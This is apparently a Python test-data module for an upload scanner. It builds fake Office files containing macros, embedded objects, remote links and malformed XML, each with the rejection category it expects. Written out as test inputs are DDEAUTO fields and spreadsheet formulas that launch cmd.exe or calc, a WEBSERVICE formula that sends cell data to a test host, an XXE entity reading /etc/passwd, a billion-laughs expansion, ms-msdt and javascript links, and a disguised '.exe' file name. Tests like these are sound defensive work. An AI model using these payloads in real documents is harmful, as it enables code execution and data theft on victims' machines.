"""Office files with parts that act, reach out, or cannot be read."""

from functools import partial

from tests.unit.uploads.files import office, relations

from . import Case

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MACRO_TYPES = {
    "docx": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xlsx": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "pptx": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
}
FOLDER = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}
MAIN = {"docx": "document", "xlsx": "workbook", "pptx": "presentation"}


def typed(kind: str, part: str, content_type: str) -> bytes:
    return office(kind, more_types=f'<Override PartName="{part}" ContentType="{content_type}"/>')


def with_part(kind: str, name: str, content: str | bytes) -> bytes:
    return office(kind, {name: content})


def related(kind: str, relation: str, target: str, mode: str = "External") -> bytes:
    name = f"{FOLDER[kind]}/_rels/{MAIN[kind]}.xml.rels"
    return office(kind, {name: relations(relation, target, mode)})


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return with_part("docx", "word/document2.xml", f"<w:document {W}>{runs}</w:document>")


def second_field(code: str) -> bytes:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    runs = "".join(f"{begin}<w:r><w:instrText>{words}</w:instrText></w:r>" for words in ("PAGE", code))
    return with_part("docx", "word/header1.xml", f"<w:hdr {W}>{runs}</w:hdr>")


def formula(text: str) -> bytes:
    return with_part("xlsx", "xl/worksheets/sheet1.xml", f"<worksheet><c><f>{text}</f></c></worksheet>")


def declared(text: str, encoding: str = "utf-8") -> bytes:
    return with_part("docx", "word/settings.xml", f'<?xml version="1.0" encoding="{encoding}"?>{text}'.encode(encoding))


LAUGHS = "<!DOCTYPE l [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {name} '{f'&{before};' * 10}'>" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
STREAM = "EncryptedPackage".encode("utf-16-le")

MACROS = [
    *(
        Case(
            "macros under a name that says none",
            f"a.{kind}",
            partial(typed, kind, "/x.xml", MACRO_TYPES[kind]),
            "macros",
        )
        for kind in MACRO_TYPES
    ),
    *(
        Case(
            "a project of macros",
            f"a.{kind}",
            partial(with_part, kind, f"{FOLDER[kind]}/vbaProject.bin", OLE),
            "macros",
        )
        for kind in MACRO_TYPES
    ),
    *(
        Case(
            "a project of macros by another name",
            f"a.{kind}",
            partial(related, kind, "vbaProject", "media/image1.png", "Internal"),
            "embedded",
        )
        for kind in MACRO_TYPES
    ),
    Case(
        "a project of macros by its type",
        "a.docx",
        partial(typed, "docx", "/word/a.dat", "application/vnd.ms-office.vbaProject"),
        "macros",
    ),
    Case(
        "the type spelt with entities",
        "a.docx",
        partial(typed, "docx", "/word/a.dat", "application/vnd.ms-office.&#118;baProject"),
        "macros",
    ),
    Case("names in capitals", "a.docx", partial(with_part, "docx", "WORD/VBAPROJECT.BIN", OLE), "macros"),
    Case("data of macros", "a.docx", partial(with_part, "docx", "word/vbaData.xml", "<x/>"), "macros"),
    Case("macro sheets", "a.xlsx", partial(with_part, "xlsx", "xl/macrosheets/sheet1.xml", "<x/>"), "macros"),
    Case("macro sheets elsewhere", "a.xlsx", partial(related, "xlsx", "xlMacrosheet", "a.xml", "Internal"), "embedded"),
    Case(
        "foreign macro sheets", "a.xlsx", partial(related, "xlsx", "xlIntlMacrosheet", "a.xml", "Internal"), "embedded"
    ),
    Case("dialog sheets", "a.xlsx", partial(with_part, "xlsx", "xl/dialogsheets/sheet1.xml", "<x/>"), "macros"),
    Case(
        "a macro type in UTF-16",
        "a.docx",
        lambda: with_part("docx", "[Content_Types].xml", "<Types/>".encode("utf-16")),
        "other",
    ),
    *(
        Case(f"a {name} inside", "a.docx", partial(with_part, "docx", f"word/media/{name}", b"x"), "macros")
        for name in ("run.exe", "run.js", "run.vbs", "run.bat", "run.hta", "run.ps1", "run.lnk", "page.html")
    ),
]

EMBEDDED = [
    Case("an OLE object", "a.docx", partial(with_part, "docx", "word/embeddings/oleObject1.bin", OLE), "macros"),
    Case("an OLE object elsewhere", "a.docx", partial(with_part, "docx", "word/media/image1.png", OLE), "embedded"),
    Case(
        "an OLE object by its relation",
        "a.pptx",
        partial(related, "pptx", "oleObject", "a.dat", "Internal"),
        "embedded",
    ),
    Case("a linked OLE object", "a.docx", partial(related, "docx", "oleObject", "https://x.test/a.doc"), "embedded"),
    Case("ActiveX", "a.docx", partial(with_part, "docx", "word/activeX/activeX1.xml", "<x/>"), "macros"),
    Case("a control", "a.docx", partial(related, "docx", "control", "a.xml", "Internal"), "embedded"),
    Case("a package", "a.docx", partial(related, "docx", "package", "embeddings/a.xlsx", "Internal"), "embedded"),
    Case("a document inside", "a.docx", lambda: with_part("docx", "word/embeddings/a.docx", office()), "embedded"),
    Case(
        "a workbook with macros inside",
        "a.docx",
        lambda: with_part("docx", "word/embeddings/a.xlsm", office("xlsx")),
        "macros",
    ),
    Case(
        "a program as a picture", "a.docx", partial(with_part, "docx", "word/media/image1.png", b"MZ\x90"), "embedded"
    ),
    Case(
        "a program for Linux as a picture",
        "a.xlsx",
        partial(with_part, "xlsx", "xl/media/a.jpeg", b"\x7fELF"),
        "embedded",
    ),
    Case("a PDF as a picture", "a.pptx", partial(with_part, "pptx", "ppt/media/a.png", b"%PDF-1.7"), "embedded"),
    Case("another format brought in", "a.docx", partial(related, "docx", "aFChunk", "a.mht", "Internal"), "embedded"),
    Case(
        "a button that starts a program",
        "a.pptx",
        partial(with_part, "pptx", "ppt/slides/slide1.xml", '<s><a action="ppaction://program"/></s>'),
        "embedded",
    ),
    Case(
        "a button that runs a macro",
        "a.pptx",
        partial(with_part, "pptx", "ppt/slides/slide1.xml", '<s><a action="ppaction://macro?name=x"/></s>'),
        "embedded",
    ),
    Case(
        "a script in a drawing",
        "a.docx",
        partial(with_part, "docx", "word/media/a.svg", "<svg><script>alert(1)</script></svg>"),
        "macros",
    ),
    *(
        Case(f"a field: {code}", "a.docx", partial(field, code), "embedded")
        for code in (
            "DDEAUTO c:\\\\windows\\\\cmd.exe",
            "dde excel x",
            "LINK Excel.Sheet.12 x",
            "INCLUDETEXT http://x.test/a",
            "INCLUDEPICTURE \\\\\\\\x.test\\\\a.png",
            "DATABASE x",
        )
    ),
    Case("a field in pieces", "a.docx", partial(field, "DD", "EAU", "TO c:\\\\cmd.exe"), "embedded"),
    Case("a field behind another", "a.docx", partial(second_field, "DDEAUTO c:\\\\cmd.exe"), "embedded"),
    Case(
        "a simple field",
        "a.docx",
        partial(
            with_part, "docx", "word/footer1.xml", f'<w:ftr {W}><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:ftr>'
        ),
        "embedded",
    ),
    Case(
        "a DDE link",
        "a.xlsx",
        partial(
            with_part,
            "xlsx",
            "xl/externalLinks/externalLink1.xml",
            '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        ),
        "embedded",
    ),
    Case(
        "an OLE link",
        "a.xlsx",
        partial(with_part, "xlsx", "xl/externalLinks/externalLink1.xml", "<externalLink><oleLink/></externalLink>"),
        "embedded",
    ),
    *(
        Case(f"a formula: {text}", "a.xlsx", partial(formula, text), "embedded")
        for text in ("cmd|'/c calc'!A0", 'WEBSERVICE("https://x.test/?"&amp;A1)', 'CALL("urlmon","x")', 'EXEC("calc")')
    ),
]

LINKS = [
    Case(
        "a template elsewhere", "a.docx", partial(related, "docx", "attachedTemplate", "https://x.test/t.dotm"), "links"
    ),
    Case(
        "a template on a file server",
        "a.docx",
        partial(related, "docx", "attachedTemplate", "file://x/t.dotx"),
        "links",
    ),
    Case("a picture elsewhere", "a.docx", partial(related, "docx", "image", "https://x.test/pixel.png"), "links"),
    Case("a picture on a file server", "a.pptx", partial(related, "pptx", "image", "\\\\x.test\\a.png"), "links"),
    Case("another workbook", "a.xlsx", partial(related, "xlsx", "externalLinkPath", "https://x.test/a.xlsx"), "links"),
    Case("a database", "a.xlsx", partial(related, "xlsx", "connections", "connections.xml", "Internal"), "links"),
    Case("an add-in", "a.docx", partial(related, "docx", "webextension", "a.xml", "Internal"), "links"),
    Case("part of another document", "a.docx", partial(related, "docx", "subDocument", "b.docx"), "links"),
    Case("a film elsewhere", "a.pptx", partial(related, "pptx", "video", "https://x.test/film"), "links"),
    Case("the mode in capitals", "a.docx", partial(related, "docx", "image", "https://x.test/a", "EXTERNAL"), "links"),
    *(
        Case(f"a link to {target}", "a.docx", partial(related, "docx", "hyperlink", target), "links")
        for target in (
            "javascript:alert(1)",
            "vbscript:x",
            "data:text/html,x",
            "ms-msdt:/id",
            "search-ms:query",
            "\\\\x.test\\share",
            "file://x.test/share/a",
            "file:///C:/Windows/System32/calc.exe",
            "run.bat",
        )
    ),
]

BROKEN = [
    Case("entities that multiply", "a.docx", partial(declared, LAUGHS + "]><l>&i;</l>"), "unreadable"),
    Case(
        "a file read as an entity",
        "a.docx",
        partial(declared, "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"),
        "unreadable",
    ),
    Case(
        "an address read as an entity",
        "a.docx",
        partial(declared, "<!DOCTYPE x [<!ENTITY % a SYSTEM 'https://x.test/a.dtd'> %a;]><x/>"),
        "unreadable",
    ),
    Case(
        "types declared elsewhere",
        "a.docx",
        partial(declared, "<!DOCTYPE x SYSTEM 'https://x.test/a'><x/>"),
        "unreadable",
    ),
    Case("the same in UTF-16", "a.docx", partial(declared, "<!DOCTYPE x><x/>", "utf-16"), "unreadable"),
    Case(
        "the same in a drawing",
        "a.xlsx",
        partial(with_part, "xlsx", "xl/drawings/a.vml", "<!DOCTYPE x><x/>"),
        "unreadable",
    ),
    Case(
        "in UTF-16 in a drawing",
        "a.xlsx",
        lambda: with_part("xlsx", "xl/a.vml", "<!DOCTYPE x><x/>".encode("utf-16")),
        "unreadable",
    ),
    Case("XML that does not end", "a.docx", partial(with_part, "docx", "word/styles.xml", "<x><y>"), "unreadable"),
    Case(
        "an encoding nobody knows",
        "a.docx",
        partial(with_part, "docx", "word/styles.xml", '<?xml version="1.0" encoding="x-none"?><x/>'),
        "unreadable",
    ),
    Case(
        "words under a name that hides them",
        "a.docx",
        partial(
            typed,
            "docx",
            "/word/words.dat",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        ),
        "unreadable",
    ),
    Case("a password", "a.docx", lambda: OLE + bytes(500) + STREAM, "locked"),
    Case("a password", "a.xlsx", lambda: OLE + bytes(500) + STREAM, "locked"),
    Case("an old document", "a.docx", lambda: OLE + bytes(500) + "WordDocument".encode("utf-16-le"), "old"),
    Case("an old workbook", "a.xlsx", lambda: OLE + bytes(500) + "Workbook".encode("utf-16-le"), "old"),
    Case("a spreadsheet as a document", "a.docx", partial(office, "xlsx"), "other"),
    Case("slides as a spreadsheet", "a.xlsx", partial(office, "pptx"), "other"),
    Case("a document as a PDF", "a.pdf", office, "other"),
    *(
        Case("another kind", name, office, "kind")
        for name in (
            "a.doc",
            "a.docm",
            "a.dotm",
            "a.xls",
            "a.xlsm",
            "a.xlsb",
            "a.pptm",
            "a.ppsm",
            "a.docx.exe",
            "a.exe",
            "a.js",
            "a.html",
            "a.svg",
            "a.zip",
            "a.docx.",
            "docx",
            "a.docx\u202e.exe",
            "a.docx/b",
        )
    ),
]

CASES = MACROS + EMBEDDED + LINKS + BROKEN
